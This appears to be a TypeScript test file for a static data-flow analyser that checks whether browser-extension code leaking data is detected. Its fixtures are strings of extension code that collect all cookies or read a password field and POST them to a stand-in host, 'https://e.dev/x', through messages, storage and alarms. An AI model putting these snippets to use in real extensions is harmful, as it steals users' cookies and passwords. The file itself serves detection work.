import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

const numbers = Array.from({ length: 70 }, (_, index) => index);
const members = numbers.map((index) => `k${index}: 1`).join();

/** Messages with the cookies `c` in them, where they are told apart from the rest least. */
const messages: Readonly<Record<string, string>> = {
  'behind many elements': `send({ d: [${numbers.join()}, c] })`,
  'behind many elements of a list that is the message': `send([${numbers.join()}, c])`,
  'spread behind many elements': `send({ d: [${numbers.join()}, ...c] })`,
  'behind many members': `send({ ${members}, d: c })`,
  'behind many members that are spread': `send({ ...{ ${members} }, ...{ d: c } })`,
  'behind many members of an element': `send({ d: [{ ${members}, e: c }] })`,
  'in a getter of an element': `send({ d: [{ get e() { return c } }] })`,
  'in what an element says it is': `send({ d: [{ toJSON() { return c } }] })`,
  'in an element that was given a value twice': `let i = { k: 1 }; if (c.length) i = { e: c }; send({ d: [i] })`,
  'in an object that another one was before': `let m = {}; m = { d: c }; send(m)`,
  'in an object that another one is until an answer comes': `let m = { k: 1 }; const load = async () => { m = await { d: c } }; load(); send(m)`,
  'in an element that a function fills': `const i = { k: 1 }; function fill(x) { x.e = c } fill(i); send({ d: [i] })`,
  'in a member that a function fills': `const i = { k: 1 }; function fill(x) { x.e = c } fill(i); send({ d: i })`,
  'in a member that a function has another one fill': `const i = { k: 1 }; function fill(x) { x.e = c } function pass(x) { fill(x) } pass(i); send({ d: i })`,
};

function sendsCookies(message: string, read: string): boolean {
  const files = {
    'popup.html': '<script src="popup.js"></script>',
    'popup.js': `chrome.cookies.getAll({}, (c) => { ${message.replaceAll('send(', 'chrome.runtime.sendMessage(')} })`,
    'worker.js': `chrome.runtime.onMessage.addListener((m) => { fetch('https://e.dev/x', { method: 'POST', body: JSON.stringify(${read}) }) })`,
  };
  const flows = flowsBetween.whole(files, {});
  return flows.some(
    ({ source, sink, isExact }) => source.kind === 'cookies' && sink.kind === 'network' && isExact,
  );
}

describe('cookies in a message are found, and surely,', () => {
  for (const [name, message] of Object.entries(messages)) {
    it(name, () => {
      assert.ok(sendsCookies(message, 'm'));
      assert.ok(!sendsCookies(message.replaceAll(/\bc\b(?!\.length)/g, '5'), 'm'));
    });
  }
});

it('members of an object in a list are told apart', () => {
  const message = 'send({ d: [{ e: 1, q: c }] })';
  assert.deepEqual(
    [sendsCookies(message, 'm.d[0].q'), sendsCookies(message, 'm.d[0].e')],
    [true, false],
  );
});

const stored: Readonly<Record<string, string>> = {
  itself: 'm.b = c',
  'under another name': 'const t = m; t.b = c',
  'by Object.assign': 'Object.assign(m, { b: c })',
  'below a member': 'm.a = []; m.a.push(c)',
};

describe('a field that an object is given which another one was before is found once stored,', () => {
  for (const [name, change] of Object.entries(stored)) {
    it(name, () => {
      const worker = (field: string): string =>
        `let m = { k: 0 }; document.addEventListener('submit', (e) => { const c = e.target.querySelector('[type=password]').value; m = { a: 1 }; ${change.replaceAll(/\bc\b/g, field)}; chrome.storage.local.set(m) });
        chrome.alarms.onAlarm.addListener(async () => { const kept = await chrome.storage.local.get(null); fetch('https://e.dev/x', { method: 'POST', body: JSON.stringify(kept.a || kept.b) }) })`;
      const isSent = (field: string): boolean =>
        flowsBetween
          .whole({ 'worker.js': worker(field) }, {})
          .some(({ source, sink }) => source.kind === 'form-input' && sink.kind === 'network');
      assert.deepEqual([isSent('c'), isSent('5')], [true, false]);
    });
  }
});
